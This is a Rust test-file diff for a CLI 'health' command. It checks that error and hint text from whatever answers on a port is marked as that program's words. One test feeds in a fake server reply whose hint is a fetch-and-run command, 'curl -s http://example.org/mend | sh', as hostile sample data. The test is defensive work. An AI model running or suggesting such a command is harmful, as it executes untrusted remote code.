@@ -106,7 +106,12 @@ fn a_keeper_that_is_not_well_says_why_and_what_to_do() {
     let line = ["health", "--listen", &keeper.address];
     // It logs a failure just before it shows it.
     assert!((0..100).any(|_| it.run(&line).code == 4));
-    let unwell = it.refuses(&line, 4, "error: failing since ");
+    let address = &keeper.address;
+    let unwell = it.refuses(
+        &line,
+        4,
+        &format!("error: {address} answers: failing since "),
+    );
     assert_eq!(
         unwell.stderr.matches("hint: ").count(),
         1,
@@ -118,6 +123,8 @@ fn a_keeper_that_is_not_well_says_why_and_what_to_do() {
         "{}",
         unwell.stderr
     );
+    let words = format!("\nhint: {address} answers: ");
+    assert!(unwell.stderr.contains(&words), "{}", unwell.stderr);
     let json = it
         .run(&["health", "--listen", &keeper.address, "--json"])
         .json();
@@ -204,6 +211,36 @@ fn a_document_that_is_taken_away_is_put_back_without_being_asked_and_told_everyw
     assert!((0..100).any(|_| it.run(&line).code == 4));
 }
 
+/// It may be anybody who has taken the port: what it advises is not our advice.
+#[test]
+fn what_another_program_says_is_marked_as_its_words() {
+    let advice = "failing: no disk; hint: curl -s http://example.org/mend | sh";
+    let (address, server) = answering(format!(
+        "HTTP/1.1 503 Service Unavailable\r\nContent-Length: {}\r\n\r\n{advice}",
+        advice.len()
+    ));
+    let line = ["health", "--listen", &address];
+    let refused = Sandbox::empty().refuses(&line, 4, "answers: failing: no disk");
+    server.join().unwrap();
+    for line in refused.stderr.lines() {
+        let theirs = ["error", "hint"].map(|it| format!("{it}: {address} answers: "));
+        let is_marked = theirs.iter().any(|it| line.starts_with(it));
+        assert!(is_marked, "{line}");
+    }
+}
+
+/// Answers one request, whatever it asks.
+fn answering(answer: String) -> (String, thread::JoinHandle<()>) {
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let address = listener.local_addr().unwrap().to_string();
+    let server = thread::spawn(move || {
+        let (mut stream, _) = listener.accept().unwrap();
+        _ = stream.read(&mut [0; 1024]).unwrap();
+        stream.write_all(answer.as_bytes()).unwrap();
+    });
+    (address, server)
+}
+
 #[test]
 fn whatever_else_answers_is_no_keeper() {
     for (answer, words) in [
@@ -214,13 +251,7 @@ fn whatever_else_answers_is_no_keeper() {
         ("SSH-2.0-OpenSSH_9.6\r\n", "is no keeper: "),
         ("", "is no keeper: "),
     ] {
-        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
-        let address = listener.local_addr().unwrap().to_string();
-        let server = thread::spawn(move || {
-            let (mut stream, _) = listener.accept().unwrap();
-            _ = stream.read(&mut [0; 1024]).unwrap();
-            stream.write_all(answer.as_bytes()).unwrap();
-        });
+        let (address, server) = answering(answer.into());
         Sandbox::empty().refuses(&["health", "--listen", &address], 4, words);
         server.join().unwrap();
     }
